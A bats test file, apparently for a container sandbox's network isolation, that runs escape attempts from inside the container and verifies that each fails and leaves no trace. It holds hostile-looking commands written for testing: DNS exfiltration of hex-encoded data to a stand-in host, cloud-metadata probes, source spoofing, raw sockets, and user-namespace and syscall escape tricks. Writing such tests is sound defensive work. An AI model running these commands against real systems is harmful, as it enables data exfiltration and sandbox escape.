#!/usr/bin/env bats
# Escape attempts from inside a running bottle: the code in it is hostile,
# runs as the bottle's uid with no capability, and tries every way out it
# can. Each attempt must fail inside the bottle AND be shown not to have
# arrived anywhere: the world's logs, a capture of everything the sentry
# sends to the world, a listener on the host, a listener in another running
# bottle, the sentry's counters and conntrack table.
#
# Two nameplates of its own (esc, esc2) made from nsproto, so other suites
# running at the same time are never touched. esc also allows 9.9.9.9/32
# (a resolver) as a CIDR: DNS to it must still be refused.

load helpers

M=esc
M2=esc2
SENTRY_IP=10.242.5.2
BOTTLE_IP=10.242.5.3
GW_IP=10.242.5.1 # the enclave's first address: podman's would-be gateway
SENTRY2_IP=10.242.7.2
BOTTLE2_IP=10.242.7.3
ENTRY=8895
ENTRY2=8897
SINK_PORT=18091 # the host listener of this file (never 2024)
B=rb-$M-bottle
B2=rb-$M2-bottle

bottle() { (cd "$RB_TOP" && RB_BIN=$RB_BIN bash mk/bottle.sh "$@"); }
pid_of() { podman inspect -f '{{.State.Pid}}' "$1"; }
uplink_ip() { podman inspect -f '{{(index .NetworkSettings.Networks "rb-world").IPAddress}}' "$1"; }

# The host side of the veth that carries ADDR in the netns of PID.
host_veth() {
    local pid=$1 addr=$2 ifn idx
    ifn=$(nsenter -t "$pid" -n ip -j -4 addr | jq -r --arg a "$addr" '.[] | select(any(.addr_info[]; .local == $a)) | .ifname')
    idx=$(nsenter -t "$pid" -n ip -j link show "$ifn" | jq -r '.[0].link_index')
    ip -j link | jq -r --argjson i "$idx" '.[] | select(.ifindex == $i) | .ifname'
}

# nameplate FILE MONIKER THIRD-OCTET ENTRY-PORT: nsproto with its own names
nameplate() {
    sed -e "s/^RBRN_MONIKER .*/RBRN_MONIKER = $2/" \
        -e "s/10\.242\.0\./10.242.$3./g" \
        -e "s/^RBRN_ENTRY_PORT_WORKSTATION .*/RBRN_ENTRY_PORT_WORKSTATION = $4/" \
        -e 's#^RBRN_UPLINK_ALLOWED_CIDRS .*#RBRN_UPLINK_ALLOWED_CIDRS = 160.79.104.0/23 9.9.9.9/32#' \
        "$RB_TOP/nameplates/nsproto.mk" >"$1"
}

# A listener that logs every TCP connection and UDP datagram it receives:
# "tcp PEER -> LOCAL" / "udp PEER -> LOCAL"; first line "ready".
# Usage: perl sink.pl PORT LOG ADDR...
SINK_PL='use strict; use warnings; use IO::Socket::IP; use IO::Select;
my ($port, $log, @addrs) = @ARGV;
open(my $fh, ">>", $log) or die "$log: $!\n"; $fh->autoflush(1);
my $sel = IO::Select->new; my %udp;
for my $a (@addrs) {
    my @v6 = $a =~ /:/ ? (V6Only => 1) : ();
    my $t = IO::Socket::IP->new(LocalHost => $a, LocalPort => $port, Listen => 16, ReuseAddr => 1, @v6) or die "tcp $a: $@\n";
    my $u = IO::Socket::IP->new(LocalHost => $a, LocalPort => $port, Proto => "udp", @v6) or die "udp $a: $@\n";
    $udp{$u} = 1; $sel->add($t, $u);
}
print $fh "ready\n";
while (1) {
    for my $s ($sel->can_read) {
        if ($udp{$s}) { my $d; $s->recv($d, 65535) // next; print $fh "udp ", $s->peerhost, " -> ", $s->sockhost, "\n"; next; }
        my $c = $s->accept or next; print $fh "tcp ", $c->peerhost, " -> ", $c->sockhost, "\n"; close $c;
    }
}'

sink_lines() { grep -c -v '^ready$' "$1" || true; }
bottle_sink() {
    if [ "$1" = "$B" ]; then nsenter -t "$BPID" -m cat /tmp/sink.log; else nsenter -t "$BPID2" -m cat /tmp/sink.log; fi
}

# What the world logged about traffic from this file's sentry (after
# MASQUERADE every packet of the bottle that reached the world carries the
# sentry's uplink address; only this file's sentry has it).
# (read through the world's mount namespace: a podman exec per look is slow)
world_logs() {
    nsenter -t "$WPID" -m sh -c 'cat /var/log/world/*.log' 2>/dev/null ||
        podman exec rb-world sh -c 'cat /var/log/world/*.log'
}
world_from() { world_logs | grep -cE "(^|[^0-9.])${1//./\\.}([:/ ]|$)" || true; }
world_has() { world_logs | grep -cF -- "$1" || true; }

# Packets of the sentry's rules with comment rb:ID in table filter (or $2),
# summed, from the kernel: either backend (rb_pkts).
ctr() { rb_pkts "$SPID" "$1" "${2:-filter}"; }

# A capture of what passes IFACE (no promiscuous mode), one line a packet.
cap_start() {
    local f=$BATS_TEST_TMPDIR/cap-$1 i
    tcpdump -p -n -l -i "$2" "$3" >"$f.txt" 2>"$f.err" 3>&- &
    echo $! >"$f.pid"
    for i in $(seq 200); do
        grep -q 'listening on' "$f.err" && return 0
        sleep 0.05
    done
    echo "tcpdump on $2 did not start: $(cat "$f.err")" >&2
    return 1
}
cap_stop() {
    local f=$BATS_TEST_TMPDIR/cap-$1
    kill -INT "$(cat "$f.pid")" 2>/dev/null
    wait "$(cat "$f.pid")" 2>/dev/null
    rm -f "$f.pid"
    cat "$f.txt"
}
# Everything the sentry sends towards the world: the bottle's packets leave
# only this way (masqueraded), and so do the sentry's own DNS queries.
up_start() { cap_start up "$UPVETH" "ip and src host $SUP"; }
up_stop() { cap_stop up; }

# Runs a shell script in container $1 (as the bottle's uid). Inside:
#   try LABEL CMD...   runs CMD, prints "LABEL <exit status> <its error message>"
#   send CMD...        runs CMD for its packets only (fire and forget)
# The attempts run in parallel: each is independent, many end in a timeout.
in_bottle() {
    local ctr=$1 script
    script=$(cat)
    # podman's own stderr (Podman 5 warns on cgroup v1) is not an attempt
    podman exec -i "$ctr" sh -s 2>>"$BATS_TEST_TMPDIR/podman.stderr" <<EOF
try() { l=\$1; shift; { f=\$(mktemp); timeout 8 "\$@" >/dev/null 2>"\$f"; r=\$?; echo "\$l \$r \$(head -c 160 "\$f" | tr '\n' ' ')"; rm -f "\$f"; } & }
send() { timeout 8 "\$@" >/dev/null 2>&1 & }
$script
wait
EOF
}

# A unique tag per attempt: lets the world's logs show that THIS attempt
# did (or did not) arrive.
tag() { printf 'esc%s%s' "$BATS_TEST_NUMBER" "$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')"; }

# Everything an attempt could have changed: the sentry's policy (without
# counters and learned answers: iptables-legacy-save and the ipsets, or
# every nft table of its netns), the host's part of this nameplate, the
# bottle's plumbing. Each must be there: an empty read is not "unchanged".
state() {
    local p h
    p=$(rb_policy "$SPID") && [ -n "$p" ] || { echo "state: no policy read from the sentry" >&2; return 1; }
    h=$(rb_host_policy $M) && [ -n "$h" ] || { echo "state: no host part of $M read" >&2; return 1; }
    printf '%s\n' "$p" "$h"
    nsenter -t "$SPID" -n cat /proc/sys/net/ipv4/ip_forward
    nsenter -t "$BPID" -n ip -j route show table all
    nsenter -t "$BPID" -n ip -j addr
    nsenter -t "$BPID" -n ip -j rule
    nsenter -t "$BPID" -n ip -j link | jq -c '[.[] | {ifname, address, mtu, operstate}]'
    nsenter -t "$BPID" -n ip -j neigh show nud permanent
    nsenter -t "$BPID" -n sh -c 'cat /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv6/conf/*/disable_ipv6'
}

setup_file() {
    rb_require_images
    bash "$RB_TOP/mk/world.sh" start >/dev/null
    export NP=$BATS_FILE_TMPDIR/$M.mk NP2=$BATS_FILE_TMPDIR/$M2.mk
    nameplate "$NP" $M 5 $ENTRY
    nameplate "$NP2" $M2 7 $ENTRY2
    # leftovers of an interrupted run of this file (its own monikers only)
    bottle stop "$NP" >/dev/null 2>&1 || true
    bottle stop "$NP2" >/dev/null 2>&1 || true
    bottle start "$NP" >/dev/null
    bottle start "$NP2" >/dev/null

    export SPID BPID SPID2 BPID2 SUP SUP2 UPVETH UPVETH2 BVETH BR WPID
    WPID=$(pid_of rb-world)
    SPID=$(pid_of rb-$M-sentry)
    BPID=$(pid_of $B)
    SPID2=$(pid_of rb-$M2-sentry)
    BPID2=$(pid_of $B2)
    SUP=$(uplink_ip rb-$M-sentry)
    SUP2=$(uplink_ip rb-$M2-sentry)
    UPVETH=$(host_veth "$SPID" "$SUP")
    UPVETH2=$(host_veth "$SPID2" "$SUP2")
    BVETH=$(host_veth "$BPID" $BOTTLE_IP)
    BR=$(podman network inspect -f '{{.NetworkInterface}}' rb-$M-enclave)
    [ -n "$UPVETH" ] && [ -n "$UPVETH2" ] && [ -n "$BVETH" ] && [ -n "$BR" ]

    # The host listener: every address family, every address.
    export SINK=$BATS_FILE_TMPDIR/host-sink.log
    [ -z "$(ss -Htanu "( sport = :$SINK_PORT )")" ] || { echo "port $SINK_PORT is taken" >&2; return 1; }
    setsid perl -e "$SINK_PL" $SINK_PORT "$SINK" 0.0.0.0 :: </dev/null >/dev/null 2>"$SINK.err" 3>&- &
    echo $! >"$BATS_FILE_TMPDIR/host-sink.pid"
    # Listeners inside both bottles, on their service port.
    podman exec -d $B perl -e "$SINK_PL" 8888 /tmp/sink.log 0.0.0.0
    podman exec -d $B2 perl -e "$SINK_PL" 8888 /tmp/sink.log 0.0.0.0
    local i
    for i in $(seq 100); do
        grep -q ready "$SINK" 2>/dev/null &&
            bottle_sink $B 2>/dev/null | grep -q ready &&
            bottle_sink $B2 2>/dev/null | grep -q ready && break
        sleep 0.1
    done
    grep -q ready "$SINK" || { cat "$SINK.err" >&2; return 1; }

    state >"$BATS_FILE_TMPDIR/state.before"
}

teardown_file() {
    local p
    p=$(cat "$BATS_FILE_TMPDIR/host-sink.pid" 2>/dev/null) && kill "$p" 2>/dev/null
    bottle stop "$NP" >/dev/null 2>&1 || true
    bottle stop "$NP2" >/dev/null 2>&1 || true
}

teardown() {
    local f
    for f in "$BATS_TEST_TMPDIR"/cap-*.pid; do
        [ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null
    done
    rb_default_teardown
}

@test "the instruments see what passes: allowed traffic arrives, and is logged and captured" {
    # Without this, every "nothing arrived" below could pass vacuously.
    local t before
    t=$(tag)
    before=$(world_from "$SUP")
    up_start
    rb_run '?' in_bottle $B <<EOF
try dns-allowed sh -c "dig +short +time=2 +tries=1 @$SENTRY_IP $t.anthropic.com | grep -qx 160.79.104.10"
try tcp-allowed nc -w 2 -z 160.79.104.10 443
try udp-allowed sh -c "echo $t | nc -u -w 1 160.79.104.10 5000 | grep -q world"
EOF
    rb_run '?' up_stop
    assert_output --partial "> 8.8.8.8.53:"
    assert_output --partial "> 160.79.104.10.443:"
    assert_output --partial "> 160.79.104.10.5000:"
    [ "$(world_has "$t.anthropic.com")" -ge 1 ]
    [ "$(world_from "$SUP")" -gt "$before" ]
    [ "$(bottle_sink $B2)" = ready ]
    [ "$(sink_lines "$SINK")" -eq 0 ]
}

@test "direct DNS to foreign resolvers on 53, 5353 and 853, UDP and TCP, is refused and never arrives" {
    local t before u t4 c4
    t=$(tag)
    before=$(world_from "$SUP")
    u=$(ctr dns-udp)
    t4=$(ctr dns-tcp)
    up_start
    # 9.9.9.9 is an allowed CIDR of this nameplate and 160.79.104.10 is in
    # one: DNS ports are refused before any CIDR is looked at.
    rb_run '?' in_bottle $B <<EOF
for r in 8.8.8.8 1.1.1.1 9.9.9.9 160.79.104.10; do
    for p in 53 5353 853; do
        try "udp:\$r:\$p" dig +notcp +time=1 +tries=1 -p \$p @\$r $t-u\$p.anthropic.com
        try "tcp:\$r:\$p" dig +tcp +time=1 +tries=1 -p \$p @\$r $t-t\$p.anthropic.com
    done
    try "dot:\$r" nc -w 2 -z \$r 853
    try "nc53:\$r" nc -w 2 -z \$r 53
done
EOF
    assert_all_failed 32
    rb_run '?' up_stop
    assert_output ""
    [ "$(world_has "$t")" -eq 0 ]
    [ "$(world_from "$SUP")" -eq "$before" ]
    # refused by the sentry's DNS rules, UDP and TCP alike
    [ "$(ctr dns-udp)" -ge $((u + 12)) ]
    [ "$(ctr dns-tcp)" -ge $((t4 + 12)) ]
}

@test "DNS exfiltration in names that are not allowed is answered locally and never leaves the sentry" {
    local t s
    t=$(tag)
    up_start
    # Data in labels, other types, TCP, near misses of the allowed name
    # (no label boundary, the allowed name as a prefix, a dot inside a
    # label), bare names and reverse lookups.
    rb_run in_bottle $B <<EOF
q() { s=\$(dig +time=2 +tries=1 @$SENTRY_IP "\$@" 2>/dev/null | sed -n 's/.*status: \([A-Z]*\),.*/\1/p'); echo "\${s:-none} \$*"; }
q $t-6b7a7a79726f6f747061737377726f6f74.exfil.example
q $t.google.com
q +tcp $t-tcp.example.net
q TXT $t-txt.example.org
q MX $t-mx.example.org
q ANY $t-any.example.org
q AAAA $t-aaaa.example.org
q SRV _x._tcp.$t.example.org
q ${t}anthropic.com
q $t-anthropic.com
q anthropic.com.$t.example
q $t.anthropic.co
q "$t\\.anthropic.com"
q $t-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc.example
q $t
q -x 203.0.113.77
q -x 8.8.8.8
EOF
    [ "$(grep -c . <<<"$output")" -eq 17 ]
    rb_run 1 grep -v '^NXDOMAIN ' <<<"$output"
    assert_output ""
    rb_run '?' up_stop
    assert_output "" # not one query went upstream
    [ "$(world_has "$t")" -eq 0 ]

    # The residual risk docs/security.md names: labels UNDER an allowed name do
    # reach the upstream resolver (and the name's own DNS servers).
    rb_run --separate-stderr '?' podman exec $B dig +short +time=2 +tries=1 @$SENTRY_IP "$t-6b7a7a79.anthropic.com"
    assert_output 160.79.104.10
    [ "$(world_has "$t-6b7a7a79.anthropic.com")" -ge 1 ]
}

@test "zone transfers fail: from the sentry, through it, and from foreign servers" {
    local t
    t=$(tag)
    up_start
    rb_run '?' in_bottle $B <<EOF
try axfr-sentry-notallowed sh -c "dig +time=2 +tries=1 axfr $t.google.com @$SENTRY_IP | grep -q SOA"
try ixfr-sentry-notallowed sh -c "dig +time=2 +tries=1 ixfr=1 $t.example.org @$SENTRY_IP | grep -q SOA"
try axfr-8.8.8.8 sh -c "dig +time=2 +tries=1 axfr anthropic.com @8.8.8.8 | grep -q SOA"
try axfr-9.9.9.9 sh -c "dig +time=2 +tries=1 axfr anthropic.com @9.9.9.9 | grep -q SOA"
try axfr-1.1.1.1 sh -c "dig +time=2 +tries=1 axfr $t.anthropic.com @1.1.1.1 | grep -q SOA"
EOF
    assert_all_failed 5
    rb_run '?' up_stop
    assert_output ""
    [ "$(world_has "$t")" -eq 0 ]
    # An allowed name is forwarded (policy: the name is allowed); the
    # transfer still yields no zone (the simulated upstream refuses, as
    # public resolvers do).
    rb_run --separate-stderr '?' podman exec $B sh -c "dig +time=2 +tries=1 axfr anthropic.com @$SENTRY_IP | grep -c SOA"
    assert_output 0
}

@test "multicast DNS, SSDP and broadcasts never leave the enclave" {
    local t before
    t=$(tag)
    before=$(world_from "$SUP")
    up_start
    rb_run '?' in_bottle $B <<EOF
try mdns-dig dig -p 5353 +time=1 +tries=1 @224.0.0.251 $t.local
try mdns-any sh -c "echo $t | nc -u -w 1 224.0.0.251 5353 | grep -q ."
try llmnr sh -c "echo $t | nc -u -w 1 224.0.0.252 5355 | grep -q ."
try ssdp sh -c "echo $t | nc -u -w 1 239.255.255.250 1900 | grep -q ."
try sentry-local sh -c "dig +time=1 +tries=1 @$SENTRY_IP $t.local | grep -q 'status: NOERROR'"
send perl -MSocket -MIO::Socket::INET -e 'my \$s = IO::Socket::INET->new(Proto => "udp", Broadcast => 1) or die; for my \$a ("255.255.255.255", "10.242.5.255") { \$s->send("$t", 0, pack_sockaddr_in(5353, inet_aton(\$a))) }'
EOF
    assert_all_failed 5
    rb_run '?' up_stop
    assert_output ""
    [ "$(world_from "$SUP")" -eq "$before" ]
    [ "$(world_has "$t")" -eq 0 ]
    [ "$(sink_lines "$SINK")" -eq 0 ]
}

@test "IPv6 to any destination: the bottle has no IPv6, and not one IPv6 frame leaves it" {
    local mac a b c d e f ll
    # what a bridge's EUI-64 link-local address would be (rb-net-create
    # removed it; the bottle tries it anyway)
    mac=$(ip -j link show "$BR" | jq -r '.[0].address')
    IFS=: read -r a b c d e f <<<"$mac"
    ll=$(printf 'fe80::%02x%s:%sff:fe%s:%s%s' $((0x$a ^ 2)) "$b" "$c" "$d" "$e" "$f")
    rb_run nsenter -t "$BPID" -n ip -j -6 addr
    assert_output "[]"
    rb_run '?' nsenter -t "$BPID" -n sh -c 'cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u'
    assert_output 1

    cap_start v6 "$BVETH" "ip6"
    up_start
    rb_run '?' in_bottle $B <<EOF
try doc nc -6 -w 2 -z 2001:db8::1 443
try host-ula nc -6 -w 2 -z fd00::2 $SINK_PORT
try host-ula-udp sh -c "echo x | nc -6 -u -w 1 fd00::2 $SINK_PORT"
try bridge-ll nc -6 -w 2 -z $ll%eth0 $SINK_PORT
try host-eth0-ll nc -6 -w 2 -z fe80::fc:ff:fe00:1%eth0 $SINK_PORT
try sentry-ll nc -6 -w 2 -z fe80::1%eth0 53
try loopback6 nc -6 -w 2 -z ::1 $SINK_PORT
try mdns6 dig -p 5353 +time=1 +tries=1 @ff02::fb%eth0 x.local
try allnodes ping -6 -c 1 -W 1 ff02::1%eth0
try dns6 dig +time=1 +tries=1 @2001:4860:4860::8888 anthropic.com
try curl6 curl -sS -6 --max-time 3 -o /dev/null http://[2001:db8::1]/
try v4mapped-dns nc -6 -w 2 -z ::ffff:8.8.8.8 53
try v4mapped-private nc -6 -w 2 -z ::ffff:10.243.0.1 $SINK_PORT
EOF
    assert_all_failed 13
    rb_run '?' cap_stop v6
    assert_output ""
    rb_run '?' up_stop
    assert_output ""
    [ "$(sink_lines "$SINK")" -eq 0 ]
}

@test "the host is unreachable: enclave gateway address, its other addresses, IPv6 link-local" {
    local before
    before=$(world_from "$SUP")
    rb_run ip -j addr show dev "$BR"
    [ "$(jq '.[0].addr_info | length' <<<"$output")" -eq 0 ]
    up_start
    rb_run '?' in_bottle $B <<EOF
for a in $GW_IP 10.243.0.1 192.0.2.2 10.88.0.1 10.242.5.255 255.255.255.255; do
    try "tcp:\$a" nc -w 2 -z \$a $SINK_PORT
    send sh -c "echo x | nc -u -w 1 \$a $SINK_PORT"
done
try ping-gw ping -c 1 -W 1 $GW_IP
try http-gw curl -sS --max-time 3 -o /dev/null http://$GW_IP:$SINK_PORT/
EOF
    assert_all_failed 8
    rb_run '?' up_stop
    assert_output ""
    # the host's listener (0.0.0.0 and ::) saw nothing at all
    [ "$(sink_lines "$SINK")" -eq 0 ]
    # the bridge never answered ARP for the gateway address
    rb_run nsenter -t "$BPID" -n ip -j neigh show $GW_IP
    refute_output --regexp '"(REACHABLE|STALE|DELAY|PROBE|PERMANENT)"'
    [ "$(world_from "$SUP")" -eq "$before" ]
}

@test "other podman networks and another running bottle are unreachable, both ways" {
    local before before2
    before=$(world_from "$SUP")
    before2=$(world_from "$SUP2")
    up_start
    cap_start up2 "$UPVETH2" "ip and src host $SUP2"
    rb_run '?' in_bottle $B <<EOF
try other-bottle-tcp nc -w 2 -z $BOTTLE2_IP 8888
send sh -c "echo x | nc -u -w 1 $BOTTLE2_IP 8888"
try other-bottle-ping ping -c 1 -W 1 $BOTTLE2_IP
try other-sentry-dns dig +time=1 +tries=1 @$SENTRY2_IP anthropic.com
try other-sentry-dns-tcp dig +tcp +time=1 +tries=1 @$SENTRY2_IP anthropic.com
try other-entry nc -w 2 -z $SUP2 $ENTRY2
try other-uplink-dns dig +time=1 +tries=1 @$SUP2 anthropic.com
try world-private-443 nc -w 2 -z 10.243.0.2 443
try world-private-22 nc -w 2 -z 10.243.0.2 22
try podman-default-net nc -w 2 -z 10.88.0.1 $SINK_PORT
EOF
    assert_all_failed 9
    rb_run '?' in_bottle $B2 <<EOF
try back-bottle-tcp nc -w 2 -z $BOTTLE_IP 8888
send sh -c "echo x | nc -u -w 1 $BOTTLE_IP 8888"
try back-bottle-ping ping -c 1 -W 1 $BOTTLE_IP
try back-sentry-dns dig +time=1 +tries=1 @$SENTRY_IP anthropic.com
try back-entry nc -w 2 -z $SUP $ENTRY
EOF
    assert_all_failed 4
    rb_run '?' up_stop
    assert_output ""
    rb_run '?' cap_stop up2
    assert_output ""
    rb_run '?' bottle_sink $B2
    assert_output ready
    rb_run '?' bottle_sink $B
    assert_output ready
    [ "$(sink_lines "$SINK")" -eq 0 ]
    [ "$(world_from "$SUP")" -eq "$before" ]
    [ "$(world_from "$SUP2")" -eq "$before2" ]
}

@test "cloud metadata 169.254.169.254 and private ranges are unreachable" {
    local before np
    before=$(world_from "$SUP")
    np=$(ctr never-private)
    up_start
    rb_run '?' in_bottle $B <<EOF
try metadata-http curl -sS --max-time 3 -o /dev/null http://169.254.169.254/latest/meta-data/
for a in 169.254.169.254 169.254.1.1 10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 240.0.0.1 0.0.0.1 10.243.0.2; do
    try "tcp:\$a:443" nc -w 2 -z \$a 443
    try "udp:\$a:123" sh -c "echo x | nc -u -w 1 \$a 123 | grep -q ."
done
EOF
    assert_all_failed 19
    rb_run '?' up_stop
    assert_output ""
    [ "$(world_from "$SUP")" -eq "$before" ]
    # decided by the never-private rules, and no flow was ever set up
    [ "$(ctr never-private)" -ge $((np + 9)) ]
    rb_run '?' nsenter -t "$SPID" -n conntrack -L -d 169.254.169.254
    refute_output --partial 169.254.169.254
}

@test "ICMP goes no further than the sentry, even to allowed addresses" {
    local ic
    ic=$(ctr icmp)
    rb_run --separate-stderr podman exec $B ping -c 1 -W 2 $SENTRY_IP
    up_start
    rb_run '?' in_bottle $B <<EOF
for a in 8.8.8.8 160.79.104.10 9.9.9.9 198.51.100.7 10.243.0.2 $BOTTLE2_IP 169.254.169.254; do
    try "ping:\$a" ping -c 1 -W 1 \$a
done
try ping-big ping -c 1 -W 1 -s 4000 160.79.104.10
try ping-ttl ping -c 1 -W 1 -t 2 160.79.104.10
EOF
    assert_all_failed 9
    rb_run '?' up_stop
    assert_output ""
    [ "$(ctr icmp)" -ge $((ic + 9)) ]
    rb_run '?' nsenter -t "$SPID" -n conntrack -L -p icmp -s $BOTTLE_IP
    refute_output --regexp 'dst=(8\.8\.8\.8|160\.79|9\.9\.9\.9|198\.51)'
}

@test "UDP to ports that are not DNS, outside the allowlist, never arrives" {
    local t before
    t=$(tag)
    before=$(world_from "$SUP")
    up_start
    rb_run '?' in_bottle $B <<EOF
try u5000 sh -c "echo $t | nc -u -w 1 198.51.100.7 5000 | grep -q world"
try u123 sh -c "echo $t | nc -u -w 1 93.184.216.34 123 | grep -q world"
try u5000b sh -c "echo $t | nc -u -w 1 142.250.1.1 5000 | grep -q world"
send perl -MSocket -MIO::Socket::INET -e 'my \$s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "198.51.100.7:5000") or die; \$s->send("x" x 4000)'
send perl -MSocket -MIO::Socket::INET -e 'my \$s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "203.0.113.11:5000") or die; \$s->send("$t")'
EOF
    assert_all_failed 3
    rb_run '?' up_stop
    assert_output ""
    [ "$(world_from "$SUP")" -eq "$before" ]
}

@test "the bottle cannot change its routes, addresses, sysctls or firewall rules, not even as root of a user namespace" {
    rb_run '?' in_bottle $B <<EOF
try route-replace ip route replace default via 10.242.5.9
try route-add ip route add 10.243.0.0/24 via $SENTRY_IP
try route-del ip route del default
try addr-add ip addr add 10.242.5.77/24 dev eth0
try addr-del ip addr del $BOTTLE_IP/24 dev eth0
try link-down ip link set eth0 down
try link-mac ip link set eth0 address 02:00:00:00:00:77
try link-mtu ip link set eth0 mtu 9000
try link-add ip link add rbx0 type dummy
try veth ip link add rbx1 type veth peer name rbx3
try tunnel ip link add rbx2 type ipip remote 8.8.8.8
try neigh ip neigh replace $SENTRY_IP lladdr 02:00:00:00:00:01 dev eth0
try rule ip rule add to 8.8.8.8 lookup 100
try xfrm ip xfrm policy add dir out src $BOTTLE_IP/32 dst 8.8.8.8/32
try addr6 ip -6 addr add fd00::77/64 dev eth0
try bb-route busybox route add default gw 10.242.5.9
try bb-ifconfig busybox ifconfig eth0 10.242.5.78
try sysctl-fwd busybox sysctl -w net.ipv4.ip_forward=1
try sysctl-v6 busybox sysctl -w net.ipv6.conf.all.disable_ipv6=0
try proc-v6 sh -c 'echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6'
try proc-redirects sh -c 'echo 1 > /proc/sys/net/ipv4/conf/eth0/accept_redirects'
try fw-socket perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_RAW, 255) or die "\$!\\n"'
try userns-route unshare -Ur ip route replace default via 10.242.5.9
try userns-addr unshare -Ur ip addr add 10.242.5.79/24 dev eth0
try userns-link unshare -Ur ip link set eth0 down
try userns-sysctl unshare -Ur sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'
try userns-v6 unshare -Ur sh -c 'echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6'
try userns-fw-socket unshare -Ur perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_RAW, 255) or die "\$!\\n"'
EOF
    assert_all_failed 28 'Operation not permitted|Read-only file system'
    # No user namespace at all (seccomp): root of one could not get out of
    # an empty netns, but would reach netfilter and netlink code that
    # otherwise needs CAP_NET_ADMIN. clone3 hides its flags from seccomp: it
    # is ENOSYS, and threads still start through clone.
    rb_run --separate-stderr '?' podman exec $B sh -c 'exec unshare -Urn true 2>&1'
    assert_failure
    assert_output --partial "Operation not permitted"
    # clone itself with CLONE_NEWUSER, as a runtime inside would call it:
    # EPERM (1); a child, had it been made, would print nothing and exit
    local arch nr=
    arch=$(uname -m)
    [ "$arch" = x86_64 ] && nr=56
    [ "$arch" = aarch64 ] && nr=220
    [ -n "$nr" ] || fail "no clone syscall number for $arch"
    rb_run --separate-stderr '?' podman exec $B perl -MPOSIX -e 'my $r = syscall('$nr', 0x10000000 | 17, 0, 0, 0, 0); POSIX::_exit(0) if $r == 0; if ($r > 0) { waitpid($r, 0); print "made $r\n"; exit 1 } print $!+0, "\n"'
    assert_output 1
    rb_run --separate-stderr '?' podman exec $B perl -e 'syscall(435, 0, 0) == -1 or die; print $!+0, "\n"'
    assert_output 38
    rb_run --separate-stderr podman exec $B dig +short +tries=1 @$SENTRY_IP anthropic.com
    rb_run diff "$BATS_FILE_TMPDIR/state.before" <(state)
}

@test "no raw or packet sockets, no source spoofing: nothing reaches the sentry's forwarding" {
    local eg fr before
    eg=$(ctr egress)
    fr=$(ctr forward-reject)
    before=$(world_from "$SUP")
    up_start
    rb_run '?' in_bottle $B <<EOF
for p in 1 17 47 255; do
    try "raw:\$p" perl -MSocket -e "socket(my \\\$s, PF_INET, SOCK_RAW, \$p) or die \"\\\$!\\n\""
done
try packet perl -MSocket -e 'socket(my \$s, 17, SOCK_RAW, 0x0300) or die "\$!\\n"'
try packet-dgram perl -MSocket -e 'socket(my \$s, 17, SOCK_DGRAM, 0x0300) or die "\$!\\n"'
try transparent perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_DGRAM, 0) or die; setsockopt(\$s, SOL_IP, 19, 1) or die "\$!\\n"'
try freebind-spoof perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_DGRAM, 0) or die; setsockopt(\$s, SOL_IP, 15, 1) or die; bind(\$s, pack_sockaddr_in(0, inet_aton("10.242.5.77"))) or die "bind: \$!\\n"; send(\$s, "x", 0, pack_sockaddr_in(5000, inet_aton("160.79.104.10"))) or die "\$!\\n"'
try freebind-spoof-tcp perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_STREAM, 0) or die; setsockopt(\$s, SOL_IP, 15, 1) or die; bind(\$s, pack_sockaddr_in(0, inet_aton("8.8.4.4"))) or die "bind: \$!\\n"; connect(\$s, pack_sockaddr_in(443, inet_aton("160.79.104.10"))) or die "\$!\\n"'
try ping-spoof ping -c 1 -W 1 -I 10.242.5.77 $SENTRY_IP
try arping busybox arping -c 1 -w 1 -I eth0 $SENTRY_IP
try traceroute-icmp busybox traceroute -I -m 2 -w 1 160.79.104.10
try traceroute-udp busybox traceroute -m 2 -w 1 160.79.104.10
try userns-raw unshare -Ur perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_RAW, 1) or die "\$!\\n"'
try userns-packet unshare -Ur perl -MSocket -e 'socket(my \$s, 17, SOCK_RAW, 0x0300) or die "\$!\\n"'
try userns-netns-raw unshare -Urn perl -MSocket -e 'socket(my \$s, PF_INET, SOCK_RAW, 255) or die; send(\$s, "x" x 28, 0, pack_sockaddr_in(0, inet_aton("160.79.104.10"))) or die "\$!\\n"'
EOF
    assert_all_failed 16 'Operation not permitted|Network is unreachable|Cannot assign requested address'
    rb_run '?' up_stop
    assert_output ""
    [ "$(world_from "$SUP")" -eq "$before" ]
    # not one of them even reached the sentry's forwarding decision
    [ "$(ctr egress)" -eq "$eg" ]
    [ "$(ctr forward-reject)" -eq "$fr" ]
}

@test "the sentry serves DNS on port 53 of its enclave address and nothing else" {
    local ir
    ir=$(ctr in-reject)
    rb_run '?' in_bottle $B <<EOF
for p in \$(seq 1 128) 135 137 139 143 161 389 443 445 514 547 587 631 853 993 1080 3128 5353 5355 6379 8000 8080 8443 8888 $ENTRY 9090 $SINK_PORT 65535; do
    if timeout 3 nc -w 1 -z $SENTRY_IP \$p 2>/dev/null; then echo "open \$p"; fi
done
try uplink-dns dig +time=1 +tries=1 @$SUP anthropic.com
try uplink-dns-tcp dig +tcp +time=1 +tries=1 @$SUP anthropic.com
try uplink-entry nc -w 2 -z $SUP $ENTRY
try uplink-ssh nc -w 2 -z $SUP 22
try mdns-sentry dig -p 5353 +time=1 +tries=1 @$SENTRY_IP anthropic.com
try dhcp sh -c "echo x | nc -u -w 1 $SENTRY_IP 67 | grep -q ."
try tftp sh -c "echo x | nc -u -w 1 $SENTRY_IP 69 | grep -q ."
EOF
    assert_line "open 53"
    [ "$(grep -c '^open' <<<"$output")" -eq 1 ]
    output=$(grep -v '^open' <<<"$output")
    assert_all_failed 7
